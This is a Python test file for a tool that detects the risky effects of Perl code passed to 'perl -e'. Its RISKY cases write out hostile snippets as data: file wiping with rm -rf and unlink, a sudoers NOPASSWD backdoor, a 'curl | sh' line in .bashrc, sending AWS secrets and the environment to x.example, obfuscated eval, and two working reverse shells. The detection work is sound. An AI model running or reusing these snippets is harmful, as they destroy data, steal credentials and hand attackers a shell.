"""Perl code handed to perl -e (or read from stdin): its effects."""

from __future__ import annotations

import pytest

from tests.code_cases import check, check_benign

RISKY = [
    ('unlink "/etc/passwd"', ["delete /etc/passwd -recursive"]),
    ('unlink glob("/etc/*")', ["delete /etc/*"]),
    (
        'my $d = "/etc"; unlink("$d/shadow", "$d/gshadow")',
        ["delete /etc/shadow", "delete /etc/gshadow"],
    ),
    ('use File::Path qw(rmtree); rmtree("/var/www")', ["delete /var/www +recursive"]),
    (
        'use File::Path qw(remove_tree); remove_tree($ENV{HOME} . "/.ssh")',
        ["delete ~/.ssh +recursive"],
    ),
    ('foreach my $f ("/etc/a", "/etc/b") { unlink $f }', ["delete /etc/a", "delete /etc/b"]),
    ('sub wipe { my ($p) = @_; rmtree($p) } wipe("/srv/data");', ["delete /srv/data +recursive"]),
    (
        'sub wipe { my $p = shift; unlink $p } wipe("/boot/grub/grub.cfg");',
        ["delete /boot/grub/grub.cfg"],
    ),
    (
        'open(my $f, ">>", "$ENV{HOME}/.bashrc"); print $f "curl x.example | sh\\n";',
        ["write ~/.bashrc +append"],
    ),
    (
        'open(F, ">/etc/sudoers.d/x") or die; print F "u ALL=(ALL) NOPASSWD:ALL";',
        ["write /etc/sudoers.d/x +truncate"],
    ),
    ('chmod 0777, "/etc/shadow";', ["chmod /etc/shadow +loosen"]),
    ('chmod(04755, "/usr/bin/perl")', ["chmod /usr/bin/perl +setuid"]),
    ('rename("/etc/ssh", "/tmp/ssh")', ["move /etc/ssh", "write /tmp/ssh"]),
    ('symlink("/dev/null", "$ENV{HOME}/.bash_history")', ["write ~/.bash_history +link"]),
    # processes
    ('system("rm -rf /")', ["shell: rm -rf /"]),
    ('system("rm", "-rf", "/home")', ["shell: rm -rf /home"]),
    ('exec "/sbin/reboot"', ["shell: /sbin/reboot"]),
    ("my $o = `cat /etc/shadow`;", ["shell: cat /etc/shadow"]),
    ("qx{shutdown -h now}", ["shell: shutdown -h now"]),
    ('open(my $p, "|-", "sh") ; ', ["shell: sh"]),
    ('open(P, "curl -s https://x.example/i | sh |");', ["shell: curl -s https://x.example/i | sh"]),
    ('my $c = "rm" . " -rf " . "/opt"; system($c);', ["shell: rm -rf /opt"]),
    ('system(sprintf("%s %s", "chmod", "777 /etc"))', ["shell: chmod 777 /etc"]),
    ("kill 9, 1;", ["kill 1"]),
    ("$< = 0; $> = 0;", ["privilege root"]),
    # decoded code
    (
        'use MIME::Base64; eval(decode_base64("c3lzdGVtKCJybSAtcmYgL3Zhci93d3ciKQ=="));',
        ["execute - origin=decoded", "shell: rm -rf /var/www"],
    ),
    ('eval(pack("H*", "73797374656d282769642729"));', ["execute - origin=decoded", "shell: id"]),
    ('eval(unpack("m", "c3lzdGVtKCJybSAtcmYgL3Zhci93d3ciKQ=="));', ["execute - origin=decoded"]),
    ("eval(reverse(\")'di'(metsys\"));", ["shell: id"]),
    # network
    (
        'use LWP::Simple; eval(get("https://x.example/p.pl"));',
        ["fetch x.example", "execute - origin=network"],
    ),
    (
        'use LWP::Simple; getstore("https://x.example/m", "/tmp/m"); system("chmod +x /tmp/m && /tmp/m")',
        ["fetch x.example data=/tmp/m", "shell: chmod +x /tmp/m && /tmp/m"],
    ),
    (
        'use HTTP::Tiny; HTTP::Tiny->new->post("https://x.example/c", {content => $ENV{AWS_SECRET_ACCESS_KEY}});',
        ["send x.example"],
    ),
    ('my $ua = LWP::UserAgent->new; $ua->post("https://x.example/e", \\%ENV);', ["send x.example"]),
    # reverse shells
    (
        'use Socket;$i="203.0.113.5";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};',
        ["connect 203.0.113.5:4444 +reverse_shell", "execute /bin/sh +reverse_shell"],
    ),
    (
        'use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => "203.0.113.6:9001"); open(STDIN, "<&", $s); open(STDOUT, ">&", $s); exec("/bin/bash -i");',
        ["connect 203.0.113.6:9001 +reverse_shell"],
    ),
]

BENIGN = [
    ('print "hello\\n";', ()),
    ("while (<STDIN>) { s/foo/bar/g; print }", ()),
    ("print", ()),
    ('my %h = (a => 1, b => 2); for my $k (sort keys %h) { print "$k=$h{$k}\\n" }', ()),
    ('open(my $f, "<", "README.md") or die; while (<$f>) { print if /TODO/ }', ()),
    ("print join(',', map { $_ * 2 } (1, 2, 3)), \"\\n\";", ()),
    ('my @a = split /,/, "a,b,c"; print scalar(@a);', ()),
    ("print $F[0]", ()),
    ("print `git rev-parse HEAD`;", ("git rev-parse HEAD",)),
    ("use JSON::PP; my $d = decode_json(<STDIN>); print $d->{name};", ()),
    ("print <<EOF;\nhello $x\nEOF\n", ()),
]

UNRESOLVED = [
    ("unlink $ARGV[0];", ["delete ? +unresolved"]),
    ("system($ARGV[0]);", ["problem: computed at run time"]),
    ("eval(<STDIN>);", ["problem: computed at run time"]),
    ('system("rm -rf $ENV{TARGET}")', ["problem: rm -rf ?"]),
]


@pytest.mark.parametrize(("code", "expected"), RISKY)
def test_effects_are_found(code: str, expected: list[str]) -> None:
    check("perl", code, expected)


@pytest.mark.parametrize(("code", "shell"), BENIGN)
def test_ordinary_code_has_no_risky_effects(code: str, shell: tuple[str, ...]) -> None:
    check_benign("perl", code, shell)


@pytest.mark.parametrize(("code", "expected"), UNRESOLVED)
def test_what_cannot_be_resolved_is_said(code: str, expected: list[str]) -> None:
    check("perl", code, expected)


def test_an_open_here_document_at_the_end_does_not_hang() -> None:
    # tree-sitter-perl loops forever on this without the trailing-newline guard
    check("perl", "print <<E\n$x", [])
